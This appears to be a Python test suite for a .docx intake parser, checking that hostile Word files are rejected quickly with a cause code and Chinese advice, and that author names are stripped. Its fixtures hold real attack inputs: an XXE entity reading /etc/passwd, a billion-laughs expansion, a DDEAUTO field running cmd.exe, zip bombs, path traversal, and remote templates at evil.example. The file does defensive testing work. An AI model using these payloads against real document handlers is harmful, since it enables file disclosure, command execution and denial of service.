"""Each bad office input of the quality promises, through the whole door: child process, limits, advice."""

import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest

from tests.documents.intake import hostile
from tests.documents.plan.docx_writer import OUTLINE, official, write_plan
from xiangchuang.documents.intake import RefusedFile
from xiangchuang.documents.plan import parse_plan
from xiangchuang.documents.plan.word import WordPlan, plan_docx

SECONDS = 30
Make = Callable[[Path], Path]


def raw(content: bytes) -> Make:
    def make(path: Path) -> Path:
        path.write_bytes(content)
        return path

    return make


def package(extra: dict[str, bytes] | None = None, document: bytes | None = None) -> Make:
    return lambda path: hostile.docx(path, extra, document)


def related(kind: str, target: str, *, external: bool = False) -> Make:
    relation = hostile.relation(kind, target, external=external)
    return package({"word/_rels/document.xml.rels": hostile.relations(relation)})


def main_type(name: str) -> Make:
    types = hostile.parts()["[Content_Types].xml"].replace(b"document.main", name.encode())
    return package({"[Content_Types].xml": types})


def twice(path: Path) -> Path:
    entries = [*hostile.parts().items(), ("word/Document.xml", hostile.body())]
    return hostile.write(path, entries)


def cut(path: Path) -> Path:
    content = hostile.docx(path).read_bytes()
    path.write_bytes(content[: len(content) // 2])
    return path


def nested(path: Path) -> Path:
    inner = hostile.zip_bytes({"a.bin": b"\x00" * 5_000_000})
    return hostile.docx(path, {f"word/embeddings/{n}.zip": inner for n in range(3_100)})


XXE = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + hostile.body(
    "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>"
)
LAUGHS = b'<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>' + hostile.body()
FIELD = "<w:p><w:fldSimple w:instr=\"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '/k calc'\"/></w:p>"

PROMISES: dict[str, tuple[Make, str, str]] = {
    "bomb by size": (package({"word/media/a.bin": b"\x00" * 120_000_000}), "bomb", "上传"),
    "bomb by ratio": (package({"word/a.xml": b"<a>" + b" " * 20_000_000 + b"</a>"}), "bomb", "上传"),
    "bomb by element count": (package(document=hostile.body("<w:p/>" * 2_100_000)), "bomb", "上传"),
    "bomb by depth": (package(document=hostile.body("<w:p>" * 400 + "</w:p>" * 400)), "bomb", "上传"),
    "bomb by parts": (nested, "too_many_parts", "上传"),
    "image bomb": (package({"word/media/image1.png": hostile.png(60_000, 60_000)}), "image_bomb", "缩小图片"),
    "duplicate parts": (twice, "duplicate_part", "另存"),
    "name with ..": (package({"word/../../x.xml": b"<a/>"}), "bad_name", "另存"),
    "DOCTYPE with an external entity": (package(document=XXE), "doctype", "另存"),
    "DOCTYPE with entities in entities": (package(document=LAUGHS), "doctype", "另存"),
    "macros inside .docx": (package({"word/vbaProject.bin": b"x"}), "macros", "宏"),
    "macro document renamed": (main_type("document.macroEnabled.main"), "macros", "宏"),
    "remote template": (
        related("attachedTemplate", "https://evil.example/t.dotm", external=True), "remote_template", "模板",
    ),
    "OLE": (related("oleObject", "embeddings/o.bin"), "ole", "嵌入"),
    "DDE": (package(document=hostile.body(FIELD)), "dde", "域"),
    "altChunk": (related("aFChunk", "afchunk.html"), "alt_chunk", "上传"),
    "linked picture": (
        related("image", "https://evil.example/a.png", external=True), "external_link", "断开链接",
    ),
    "encrypted": (raw(hostile.OLE_HEAD + "EncryptedPackage".encode("utf-16-le")), "encrypted", "密码"),
    "renamed .doc": (
        raw(hostile.OLE_HEAD + "WordDocument".encode("utf-16-le")), "old_format", "另存为 .docx",
    ),
    "truncated": (cut, "broken", "损坏"),
    "empty": (raw(b""), "empty", "空的"),
}  # fmt: skip


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("promise", PROMISES)
def test_each_is_refused_in_time_with_its_cause_and_what_to_do(promise: str, tmp_path: Path) -> None:
    make, code, advice = PROMISES[promise]
    path = make(tmp_path / "plan.docx")
    began = time.monotonic()
    with pytest.raises(RefusedFile) as refused:
        parse_plan(path, OUTLINE)
    assert time.monotonic() - began < SECONDS
    assert refused.value.code == code
    assert advice in refused.value.message_zh


def test_a_file_of_another_template_is_read_and_said_to_hold_none_of_the_sections(tmp_path: Path) -> None:
    path = tmp_path / "letter.docx"
    letter = docx.Document()
    letter.add_heading("关于报送材料的函", level=1)
    letter.add_paragraph("现将有关材料报送，请查收。")
    letter.save(str(path))
    plan = parse_plan(path, OUTLINE)
    assert len(plan.missing) == len(OUTLINE)
    kept = [block.text for extra in plan.surplus for block in extra.blocks]
    assert "现将有关材料报送，请查收。" in kept


def test_names_of_authors_stay_behind(tmp_path: Path) -> None:
    """Comments, tracked changes and properties name people: none is in what is read or written again."""
    path = write_plan(tmp_path / "plan.docx", official)
    document = docx.Document(str(path))
    document.core_properties.author = document.core_properties.last_modified_by = "张某某"
    document.add_comment(document.paragraphs[4].runs[0], text="再核一下", author="李某某", initials="李")
    document.save(str(path))

    plan = parse_plan(path, OUTLINE)
    again = tmp_path / "again.docx"
    again.write_bytes(plan_docx(WordPlan(plan.title, OUTLINE, {s.code: s.blocks for s in plan.sections})))

    assert plan.comments == 1
    with zipfile.ZipFile(again) as archive:
        written = b"".join(archive.read(name) for name in archive.namelist()).decode(errors="ignore")
    for name in ("张某某", "李某某", "再核一下"):
        assert name not in repr(plan) and name not in written
